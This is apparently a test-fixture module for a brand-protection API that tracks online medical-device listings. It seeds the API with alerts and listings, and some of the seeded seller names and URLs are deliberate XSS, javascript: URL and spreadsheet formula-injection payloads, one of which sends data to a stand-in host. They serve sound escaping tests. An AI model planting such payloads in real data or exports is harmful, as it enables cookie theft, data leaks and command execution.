import type { LambdaEvent } from "hono/aws-lambda";
import { afterAll, beforeAll } from "vitest";
import { createApiApp } from "../../functions/api/api-app.js";
import type { ApiDeps } from "../../functions/api/api-deps.js";
import { type Authenticate, type Caller, CallerSchema } from "../../functions/api/caller.js";
import { type ApiServer, startApiServer } from "../../functions/api/local-server.js";
import type { Finding } from "../../functions/core/alert.js";
import { alertIdOf } from "../../functions/core/alert-identity.js";
import { type TenantConfig, validateConfig } from "../../functions/core/config.js";
import { type EmbeddedDynamo, startEmbeddedDynamo } from "../../functions/local/embedded-dynamodb.js";
import { AlertRepository } from "../../functions/store/alert-repository.js";
import { createDocumentClient } from "../../functions/store/dynamo-client.js";
import { ListingRepository, type ListingState } from "../../functions/store/listing-repository.js";
import { RunRepository } from "../../functions/store/run-repository.js";

export const TENANT_A = "brand-a";
export const TENANT_B = "brand-b";

export const HOSTILE_NAME = `<img src=x onerror=alert(1)>"><script>alert(2)</script>`;
export const FORMULA_NAMES = [
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
] as const;

export function tenantConfig(tenant: string): TenantConfig {
  const result = validateConfig({
    tenant,
    channels: [
      { id: "jd", name: "京东", match: ["item.jd.example"] },
      { id: "pdd", name: "拼多多", match: ["pdd.example"] },
    ],
    products: [
      {
        sku: "GLU-50",
        name: "安可血糖试纸 50片",
        match: { keywords: [["安可", "血糖试纸"]] },
        minPrice: 159,
      },
      { sku: "BPM-01", name: "安可电子血压计", match: { keywords: [["安可", "血压计"]] }, minPrice: 299 },
    ],
    distributors: [
      { id: "dist-a", name: "上海康恒医药", sellers: [{ channel: "jd", name: "康恒医疗器械专营店" }] },
      { id: "dist-b", name: "北京华润医药", sellers: [{ channel: "jd", name: "华润大药房" }] },
    ],
    watch: [{ url: "https://item.jd.example/1.html", channel: "jd", sku: "GLU-50" }],
  });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return result.config;
}

interface Seed {
  tenant: string;
  key: string;
  type: Finding["type"];
  seller: string | null;
  distributorId: string | null;
  sku?: string;
  channel?: string;
  price?: number;
  url?: string;
}

/** Ids of seeded alerts and listings by seed key, e.g. `ids.alerts["a:dist-a"]`. */
export interface Seeded {
  alerts: Record<string, string>;
  listings: Record<string, string>;
}

const SEEDS: Seed[] = [
  {
    tenant: TENANT_A,
    key: "a:dist-a",
    type: "out_of_region",
    seller: "康恒医疗器械专营店",
    distributorId: "dist-a",
  },
  {
    tenant: TENANT_A,
    key: "a:dist-b",
    type: "out_of_region",
    seller: "华润大药房",
    distributorId: "dist-b",
    sku: "BPM-01",
  },
  {
    // Monitoring-only under CN law: the brand sees it, the distributor never does.
    tenant: TENANT_A,
    key: "a:dist-a-rpm",
    type: "below_min_price",
    seller: "康恒医疗器械专营店",
    distributorId: "dist-a",
    sku: "GLU-100",
  },
  {
    tenant: TENANT_A,
    key: "a:hostile",
    type: "unauthorized_seller",
    seller: HOSTILE_NAME,
    distributorId: null,
  },
  {
    tenant: TENANT_A,
    key: "a:js-url",
    type: "unauthorized_seller",
    seller: "某某旗舰店",
    distributorId: null,
    channel: "pdd",
    url: "javascript:alert(document.cookie)",
  },
  ...FORMULA_NAMES.map(
    (name, i): Seed => ({
      tenant: TENANT_A,
      key: `a:formula-${i}`,
      type: "unauthorized_seller",
      seller: name,
      distributorId: null,
    }),
  ),
  { tenant: TENANT_B, key: "b:dist-a", type: "out_of_region", seller: "B 家的店", distributorId: "dist-a" },
  {
    tenant: TENANT_B,
    key: "b:unknown",
    type: "unauthorized_seller",
    seller: "B 未授权店",
    distributorId: null,
  },
];

function finding(seed: Seed, listingId: string): Finding {
  const price = seed.price ?? 9900;
  return {
    type: seed.type,
    severity: seed.type === "below_min_price" ? "medium" : "high",
    sku: seed.sku ?? "GLU-50",
    listingId,
    url: seed.url ?? `https://item.jd.example/${listingId}.html`,
    channel: seed.channel ?? "jd",
    seller: seed.seller,
    sellerId: null,
    distributorId: seed.distributorId,
    price,
    listedPrice: price,
    threshold: 15900,
    currency: "CNY",
    explanation: `${seed.seller ?? "someone"} sells at ¥${price / 100}`,
    inputs: {},
    monitoringOnly: seed.distributorId !== null && seed.type === "below_min_price",
  };
}

function listingState(seed: Seed, listingId: string, at: string): ListingState {
  const price = seed.price ?? 9900;
  return {
    listingId,
    url: seed.url ?? `https://item.jd.example/${listingId}.html`,
    channel: seed.channel ?? "jd",
    sku: seed.sku ?? "GLU-50",
    title: `安可血糖试纸 ${seed.seller ?? ""}`,
    seller: seed.seller,
    sellerId: null,
    sellerKind: seed.distributorId ? "distributor" : "unknown",
    distributorId: seed.distributorId,
    shipFrom: null,
    listedPrice: price,
    effectivePrice: price,
    perPackPrice: price,
    currency: "CNY",
    availability: "InStock",
    outcome: "ok",
    outcomeReason: null,
    consecutiveFailures: 0,
    lastCheckedAt: at,
    lastObservationAt: at,
    activeAlertIds: [],
    matchConfidence: 1,
    mentionsBrand: true,
  };
}

export interface ApiTestStack {
  db: EmbeddedDynamo;
  deps: Omit<ApiDeps, "authenticate">;
  seeded: Seeded;
  configs: Record<string, TenantConfig>;
  /** A server whose caller is named by a `Bearer <base64url JSON Caller>` header (tests only). */
  server: ApiServer;
  close(): Promise<void>;
}

/** Test-only authentication: the caller travels in the Authorization header, validated like a real one. */
export const headerAuthenticator: Authenticate = async (request) => {
  const value = request.headers.get("authorization");
  if (!value?.startsWith("Bearer ")) return null;
  try {
    const parsed = CallerSchema.safeParse(
      JSON.parse(Buffer.from(value.slice(7), "base64url").toString("utf8")),
    );
    return parsed.success ? parsed.data : null;
  } catch {
    return null;
  }
};

export function bearer(caller: Caller): Record<string, string> {
  // An English browser: pages are in English unless a test asks otherwise (a CN tenant's default is zh-CN).
  return {
    authorization: `Bearer ${Buffer.from(JSON.stringify(caller)).toString("base64url")}`,
    "accept-language": "en",
  };
}

export const FIXED_NOW = new Date("2026-03-01T08:00:00.000Z");

export async function startApiTestStack(): Promise<ApiTestStack> {
  const db = await startEmbeddedDynamo({ dataDir: null });
  const doc = createDocumentClient({ endpoint: db.endpoint });
  const alerts = new AlertRepository(doc, db.tableName);
  const listingRepo = new ListingRepository(doc, db.tableName);
  const seeded: Seeded = { alerts: {}, listings: {} };
  let n = 0;
  for (const seed of SEEDS) {
    const listingId = `l${String(++n).padStart(4, "0")}${seed.tenant === TENANT_A ? "a" : "b"}`;
    const alertId = alertIdOf(seed.tenant, seed.type, listingId, seed.sku ?? "GLU-50");
    await alerts.record(finding(seed, listingId), {
      tenant: seed.tenant,
      alertId,
      runId: "run-1",
      now: "2026-02-01T00:00:00.000Z",
      targets: ["hook"],
    });
    const state = listingState(seed, listingId, "2026-02-02T00:00:00.000Z");
    await listingRepo.putState(seed.tenant, state);
    for (const [i, at] of ["2026-02-01T00:00:00.000Z", "2026-02-02T00:00:00.000Z"].entries()) {
      await listingRepo.addObservation(seed.tenant, {
        at,
        listingId,
        channel: state.channel,
        sku: state.sku,
        seller: state.seller,
        listedPrice: 12900 - i * 3000,
        effectivePrice: 12900 - i * 3000,
        perPackPrice: 12900 - i * 3000,
        currency: "CNY",
        availability: "InStock",
        reason: i === 0 ? "heartbeat" : "change",
      });
    }
    seeded.alerts[seed.key] = alertId;
    seeded.listings[seed.key] = listingId;
  }
  const runs = new RunRepository(doc, db.tableName);
  await runs.save({
    runId: "run-1",
    tenant: TENANT_A,
    startedAt: "2026-02-01T00:00:00.000Z",
    finishedAt: "2026-02-01T00:01:00.000Z",
    pages: 10,
    listings: 9,
    alertsNew: 9,
    alertsOpen: 9,
    errors: 0,
    seconds: 60,
    pagesPerSecond: 0.17,
    outcomes: { ok: 10 },
    sites: [],
  });
  const configs: Record<string, TenantConfig> = {
    [TENANT_A]: tenantConfig(TENANT_A),
    [TENANT_B]: tenantConfig(TENANT_B),
  };
  const deps: Omit<ApiDeps, "authenticate"> = {
    alerts,
    listings: listingRepo,
    runs,
    configs: (tenant) => configs[tenant] ?? null,
    now: () => FIXED_NOW,
  };
  const server = await startApiServer({
    app: createApiApp({ ...deps, authenticate: headerAuthenticator }),
    port: 0,
    host: "127.0.0.1",
  });
  return {
    db,
    deps,
    seeded,
    configs,
    server,
    close: async () => {
      await server.close();
      doc.destroy();
      await db.close();
    },
  };
}

export const brandA: Caller = { tenant: TENANT_A, role: "brand", name: "li.na@brand-a.example" };
export const brandB: Caller = { tenant: TENANT_B, role: "brand", name: "wang@brand-b.example" };
export const distA: Caller = {
  tenant: TENANT_A,
  role: "distributor",
  distributorId: "dist-a",
  name: "ops@dist-a.example",
};
export const distB: Caller = {
  tenant: TENANT_A,
  role: "distributor",
  distributorId: "dist-b",
  name: "ops@dist-b.example",
};

/**
 * An HTTP API (payload 2.0) event as API Gateway sends it: with the claims its JWT authorizer
 * verified (`/api/*` routes), or without (browser routes), and the browser's cookies, which
 * payload 2.0 carries apart from the headers.
 */
export function httpApiEvent(
  path: string,
  claims: Record<string, string> | null,
  cookies: string[] = [],
): LambdaEvent {
  const [rawPath = "/", rawQueryString = ""] = path.split("?");
  const requestContext = {
    accountId: "123456789012",
    apiId: "api",
    domainName: "api.example.com",
    domainPrefix: "api",
    http: { method: "GET", path: rawPath, protocol: "HTTP/1.1", sourceIp: "192.0.2.1", userAgent: "test" },
    requestId: "req",
    routeKey: "$default",
    stage: "$default",
    time: "01/Mar/2026:08:00:00 +0000",
    timeEpoch: 0,
    ...(claims ? { authorizer: { jwt: { claims, scopes: [] } } } : {}),
  };
  return {
    version: "2.0",
    routeKey: "$default",
    rawPath,
    rawQueryString,
    headers: { host: "api.example.com" },
    ...(cookies.length > 0 ? { cookies } : {}),
    isBase64Encoded: false,
    requestContext,
  } as unknown as LambdaEvent;
}

/**
 * For a test file: the stack, and a server over its data whose tenant config is
 * `brandToolsConfig()`, started before the file's tests and closed after them.
 */
export function useBrandToolsServer(): { stack(): ApiTestStack; url(): string } {
  let stack: ApiTestStack | undefined;
  let server: ApiServer | undefined;
  beforeAll(async () => {
    stack = await startApiTestStack();
    const config = brandToolsConfig();
    server = await startApiServer({
      app: createApiApp({ ...stack.deps, configs: () => config, authenticate: headerAuthenticator }),
      port: 0,
      host: "127.0.0.1",
    });
  });
  afterAll(async () => {
    await server?.close();
    await stack?.close();
  });
  const need = <T>(value: T | undefined): T => {
    if (value === undefined) throw new Error("the brand-tools server is not started");
    return value;
  };
  return { stack: () => need(stack), url: () => need(server).url };
}

/** The stack's first tenant as configured for the brand tools: price and seller rules on, notices signed. */
export function brandToolsConfig(): TenantConfig {
  const result = validateConfig({
    ...tenantConfig(TENANT_A),
    rules: { minPrice: {}, authorizedSeller: {} },
    notices: { sender: "安可医疗科技有限公司", contact: "legal@brand-a.example" },
  });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return result.config;
}
